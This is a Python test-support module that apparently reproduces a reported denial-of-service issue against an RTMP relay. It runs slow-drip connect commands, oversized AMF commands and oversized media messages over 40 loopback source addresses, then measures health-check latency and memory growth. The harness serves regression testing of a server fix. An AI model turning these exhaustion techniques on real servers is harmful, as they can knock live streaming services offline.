"""The unauthenticated-client attack of issue #13, against any RTMP server on loopback.

Three kinds of attacker, spread over many loopback source addresses (127.0.0.2-127.0.0.41 are all on
``lo``, so a per-address limit sees 40 hosts):

- **trickles**: finish the handshake, then drip a 60 KB ``connect`` command at 2 bytes/s. Each byte
  used to reset the idle timer, so none was ever closed.
- **big commands**: declare a 10 MiB AMF command (a million numbers) and send it at full speed; the
  slot reconnects whenever the server closes it.
- **big media**: declare 4 MiB video messages on a message stream that was never published; likewise.

Alongside, :class:`Prober` times ``GET /healthz`` on one keep-alive connection and :class:`RssSampler`
reads a process's ``VmRSS`` from ``/proc``. Loopback only, bounded in count and in time.
"""

from __future__ import annotations

import asyncio
import http.client
import json
import statistics
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from relay_edge.rtmp import amf0
from relay_edge.rtmp import messages as m
from relay_edge.rtmp.chunk import ChunkWriter
from relay_edge.rtmp.handshake import PACKET_SIZE

HANDSHAKE = b"\x03" + bytes(PACKET_SIZE) * 2  # C0 C1 C2 of a plain handshake, sent at once
SOURCES = tuple(f"127.0.0.{i}" for i in range(2, 42))
BIG_CHUNK = 65536


def _set_chunk_size(writer: ChunkWriter, size: int) -> bytes:
    out = writer.write(m.CSID_PROTOCOL, m.SET_CHUNK_SIZE, 0, 0, m.u32(size))
    writer.chunk_size = size
    return out


def trickle_bytes(size: int = 60_000) -> bytes:
    """A ``connect`` whose tcUrl makes the body ``size`` bytes, chunked at the default 128."""
    head = amf0.encode("connect", 1.0)
    pad = size - len(head) - len(amf0.encode({"app": "live", "tcUrl": ""}))
    body = amf0.encode("connect", 1.0, {"app": "live", "tcUrl": "x" * pad})
    return ChunkWriter().write(m.CSID_COMMAND, m.COMMAND_AMF0, 0, 0, body)


def big_command_bytes(size: int = 10 * 1024 * 1024) -> bytes:
    """A Set Chunk Size 64 KiB, then a command of ``size`` bytes: "connect", 1, and ~1.16M numbers."""
    writer = ChunkWriter()
    head = amf0.encode("connect", 1.0)
    number = amf0.encode(0.0)
    body = head + number * ((size - len(head)) // len(number))
    return _set_chunk_size(writer, BIG_CHUNK) + writer.write(m.CSID_COMMAND, m.COMMAND_AMF0, 0, 0, body)


def big_media_bytes(size: int = 4 * 1024 * 1024, count: int = 4) -> bytes:
    """``count`` video messages of ``size`` bytes on message stream 1, which no createStream returned."""
    writer = ChunkWriter()
    out = [_set_chunk_size(writer, BIG_CHUNK)]
    for i in range(count):
        out.append(writer.write(m.CSID_VIDEO, m.VIDEO, 1, 40 * i, bytes(size)))
    return b"".join(out)


@dataclass
class AttackResult:
    """What happened to the attacking connections."""

    trickles: int = 0
    trickles_closed: list[float] = field(default_factory=list)  # seconds from connect to close
    big_connections: int = 0  # connections opened by both big-message kinds
    big_open_at_end: int = 0
    refused: int = 0  # connects that failed outright

    @property
    def trickles_open(self) -> int:
        return self.trickles - len(self.trickles_closed)


class Attack:
    """``await Attack(port).run(seconds)``: the three kinds at once, each bounded in count and time."""

    def __init__(
        self,
        port: int,
        *,
        trickles: int = 300,
        big_commands: int = 30,
        big_media: int = 30,
        host: str = "127.0.0.1",
        sources: tuple[str, ...] = SOURCES,
    ) -> None:
        self.port, self.host, self.sources = port, host, sources
        self.counts = (trickles, big_commands, big_media)
        self.result = AttackResult()
        self._n = 0
        self._trickle = trickle_bytes()
        self._big_command = big_command_bytes()
        self._big_media = big_media_bytes()

    async def _open(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
        source = self.sources[self._n % len(self.sources)]
        self._n += 1
        try:
            return await asyncio.open_connection(self.host, self.port, local_addr=(source, 0))
        except OSError:
            self.result.refused += 1
            return None

    async def _trickle_one(self, end: float) -> None:
        opened = await self._open()
        if opened is None:
            return
        reader, writer = opened
        self.result.trickles += 1
        started = time.monotonic()
        closed = asyncio.create_task(_closed(reader))
        try:
            writer.write(HANDSHAKE)
            data = memoryview(self._trickle)
            for i in range(0, len(data), 2):
                if closed.done() or time.monotonic() >= end:
                    break
                writer.write(data[i : i + 2])
                await asyncio.wait({closed}, timeout=1.0)
            if closed.done():
                self.result.trickles_closed.append(time.monotonic() - started)
        except OSError:
            self.result.trickles_closed.append(time.monotonic() - started)
        finally:
            closed.cancel()
            writer.transport.abort()

    async def _big_slot(self, payload: bytes, end: float) -> None:
        """Send ``payload`` at full speed; once closed, reconnect, until ``end``."""
        while time.monotonic() < end:
            opened = await self._open()
            if opened is None:
                await asyncio.sleep(0.05)  # refused at connect: don't spin
                continue
            reader, writer = opened
            self.result.big_connections += 1
            closed = asyncio.create_task(_closed(reader))
            try:
                writer.write(HANDSHAKE)
                view = memoryview(payload)
                for i in range(0, len(view), BIG_CHUNK):
                    if closed.done():
                        break
                    writer.write(view[i : i + BIG_CHUNK])
                    await writer.drain()
                left = end - time.monotonic()
                if left > 0:
                    await asyncio.wait({closed}, timeout=left)
                if not closed.done():
                    self.result.big_open_at_end += 1
            except OSError:
                pass
            finally:
                closed.cancel()
                writer.transport.abort()

    async def run(self, seconds: float) -> AttackResult:
        """Attack for ``seconds``; every attacking socket is closed by the time this returns."""
        end = time.monotonic() + seconds
        trickles, big_commands, big_media = self.counts
        tasks = [self._trickle_one(end) for _ in range(trickles)]
        tasks += [self._big_slot(self._big_command, end) for _ in range(big_commands)]
        tasks += [self._big_slot(self._big_media, end) for _ in range(big_media)]
        await asyncio.gather(*tasks)
        return self.result


async def _closed(reader: asyncio.StreamReader) -> None:
    """Returns once the peer closed (EOF or reset); discards what it sends."""
    try:
        while await reader.read(65536):
            pass
    except OSError:
        pass


class Prober:
    """Times ``GET /healthz`` every ``interval`` s on one keep-alive connection, in its own process.

    Its own process, so the attacker's busy event loop (and GIL) can't delay the probe's clock.
    """

    def __init__(self, port: int, interval: float = 0.02, host: str = "127.0.0.1") -> None:
        self.port, self.host, self.interval = port, host, interval
        self.latencies: list[float] = []
        self.failures = 0
        self._proc: subprocess.Popen[str] | None = None

    def start(self) -> None:
        args = f"{self.host!r}, {self.port}, {self.interval}"
        code = f"from tests.support.attack import probe_main; probe_main({args})"
        root = str(Path(__file__).resolve().parents[2])
        self._proc = subprocess.Popen(
            [sys.executable, "-c", code], cwd=root, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        )

    def stop(self) -> None:
        assert self._proc is not None
        out, _ = self._proc.communicate(input="", timeout=30)  # stdin's EOF: stop and report
        report = json.loads(out)
        self.latencies, self.failures = report["latencies"], report["failures"]

    def summary(self) -> dict[str, float]:
        """p50, p99 and max in ms, and the number of probes."""
        lat = sorted(self.latencies)
        if not lat:
            return {"probes": 0, "failures": self.failures}
        p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))]
        return {
            "probes": len(lat),
            "failures": self.failures,
            "p50_ms": statistics.median(lat) * 1000,
            "p99_ms": p99 * 1000,
            "max_ms": lat[-1] * 1000,
        }


def probe_main(host: str, port: int, interval: float) -> None:
    """The probe process: GET /healthz until stdin closes, then print the latencies as JSON."""
    halt = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), halt.set()), daemon=True).start()
    latencies: list[float] = []
    failures = 0
    conn = http.client.HTTPConnection(host, port, timeout=10)
    while not halt.is_set():
        started = time.perf_counter()
        try:
            conn.request("GET", "/healthz")
            resp = conn.getresponse()
            resp.read()
            ok = resp.status == 200
        except OSError:
            ok = False
            conn.close()
            conn = http.client.HTTPConnection(host, port, timeout=10)
        if ok:
            latencies.append(time.perf_counter() - started)
        else:
            failures += 1
        halt.wait(interval)
    print(json.dumps({"latencies": latencies, "failures": failures}))


def vm_rss_mib(pid: int) -> float:
    """``VmRSS`` of one process, from ``/proc/PID/status``, in MiB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError(f"no VmRSS for pid {pid}")


class RssSampler(threading.Thread):
    """The peak ``VmRSS`` of one process, sampled every ``interval`` s, in its own thread."""

    def __init__(self, pid: int, interval: float = 0.05) -> None:
        super().__init__(daemon=True)
        self.pid, self.interval = pid, interval
        self.before = vm_rss_mib(pid)
        self.peak = self.before
        self._halt = threading.Event()

    def run(self) -> None:
        while not self._halt.is_set():
            try:
                self.peak = max(self.peak, vm_rss_mib(self.pid))
            except (OSError, RuntimeError):
                return  # the process is gone
            self._halt.wait(self.interval)

    def stop(self) -> float:
        """Stop sampling; the growth, peak minus the value at start, in MiB."""
        self._halt.set()
        self.join(5)
        return self.peak - self.before


# --- the whole scenario: a real server process, a real ffmpeg stream, the attack ---------------------

SECRET = "attack-secret-0123456789abcdef0123456789"  # loopback only; at least 32 characters


@dataclass
class Outcome:
    """Figures of one run of :func:`scenario`."""

    target: str
    rss_growth_mib: float
    rss_before_mib: float
    healthz: dict[str, float]
    attack: AttackResult
    sent_tags: int
    received_tags: int
    identical: bool

    def line(self) -> str:
        h, a = self.healthz, self.attack
        return (
            f"{self.target}: RSS {self.rss_before_mib:.1f} MiB +{self.rss_growth_mib:.1f} MiB; "
            f"/healthz p50 {h.get('p50_ms', 0):.1f} ms p99 {h.get('p99_ms', 0):.1f} ms "
            f"max {h.get('max_ms', 0):.1f} ms ({h['probes']:.0f} probes, {h['failures']:.0f} failed); "
            f"trickles closed {len(a.trickles_closed)}/{a.trickles}"
            + (f" (slowest {max(a.trickles_closed):.1f} s)" if a.trickles_closed else "")
            + f"; big-message connections {a.big_connections}, open at end {a.big_open_at_end}, "
            f"refused {a.refused}; real stream {self.received_tags}/{self.sent_tags} tags, "
            f"identical={self.identical}"
        )


async def scenario(
    workdir: Path,
    target: str = "relay",
    *,
    seconds: float = 20.0,
    python_path: str | None = None,
    edge_args: tuple[str, ...] = (),
) -> Outcome:
    """Start ``target`` ("relay": ``relay-edge serve`` + ``relay-client serve``; "nginx": nginx-rtmp),
    publish a tone with ``ffmpeg -c copy``, attack for ``seconds``, and compare what arrived.

    ``python_path`` runs the relay from another source tree (today's main, for the "before" figure).
    """
    import os

    from relay_edge import keys
    from tests.support import media, publishers
    from tests.support.net import free_port, wait_for_port_async

    workdir.mkdir(parents=True, exist_ok=True)
    source = media.tone_flv(workdir / "tone.flv", seconds=seconds + 6)
    procs: list[subprocess.Popen[bytes]] = []
    env = {**os.environ, "RELAY_SECRET": SECRET}
    env["PYTHONPATH"] = python_path or str(Path(__file__).resolve().parents[2])
    nginx = None
    try:
        if target == "relay":
            app_port, rtmp_port, http_port = free_port(), free_port(), free_port()
            out = workdir / "out"

            def cli(module: str, *args: str) -> subprocess.Popen[bytes]:
                argv = [sys.executable, "-c", f"from {module}.cli import main; main()", *args]
                log = open(workdir / f"{module}.log", "wb")  # noqa: SIM115 - closed with the process
                # cwd: "-c" puts the current directory first on sys.path, ahead of PYTHONPATH.
                return subprocess.Popen(
                    argv, env=env, cwd=workdir, stdin=subprocess.DEVNULL, stdout=log, stderr=log
                )

            procs.append(cli("relay_client", "serve", "--listen", f"127.0.0.1:{app_port}", "--out", str(out)))
            await wait_for_port_async("127.0.0.1", app_port, 20)
            edge = cli(
                "relay_edge", "serve", "--rtmp", f"127.0.0.1:{rtmp_port}", "--http", f"127.0.0.1:{http_port}",
                "--upstream", f"ws://127.0.0.1:{app_port}/relay", *edge_args,
            )  # fmt: skip
            procs.append(edge)
            await wait_for_port_async("127.0.0.1", rtmp_port, 20)
            await wait_for_port_async("127.0.0.1", http_port, 20)
            pid = edge.pid
            url = f"rtmp://127.0.0.1:{rtmp_port}/live/{keys.mint_key(SECRET, 'real', 3600, now=time.time())}"
            received_path = out / "real.flv"
        else:
            from tests.support.nginx import NginxRtmp

            nginx = NginxRtmp(workdir / "nginx", record=True, http_port=free_port(), worker_connections=4096)
            nginx.start()
            rtmp_port, http_port = nginx.port, nginx.http_port
            assert nginx.proc is not None
            pid = nginx.proc.pid
            url = nginx.url("real")
            received_path = nginx.record_path("real")
        async with await publishers.ffmpeg_copy(url, source) as pub:
            await asyncio.sleep(2.0)  # settle: the stream is live and the RSS baseline includes it
            sampler, prober = RssSampler(pid), Prober(http_port)
            sampler.start()
            prober.start()
            result = await Attack(rtmp_port).run(seconds)
            prober.stop()
            growth = sampler.stop()
            await pub.wait_ok(seconds + 30)
        if nginx is not None:
            from tests.support.nginx import strip_injected_header

            received = strip_injected_header(await nginx.recorded_tags("real", 10))
            sent_payloads = media.audio_payloads(source)
            got = media.audio_payloads(received)
        else:
            deadline = time.monotonic() + 15
            while not (workdir / "out" / "real.json").exists() and time.monotonic() < deadline:
                await asyncio.sleep(0.1)  # written when the app sees the stream end
            sent_payloads = media.audio_payloads(source)
            got = media.audio_payloads(received_path) if received_path.exists() else []
        return Outcome(
            target, growth, sampler.before, prober.summary(), result, len(sent_payloads), len(got),
            got == sent_payloads,
        )  # fmt: skip
    finally:
        for proc in reversed(procs):
            proc.terminate()
            try:
                proc.wait(10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
        if nginx is not None:
            nginx.stop()
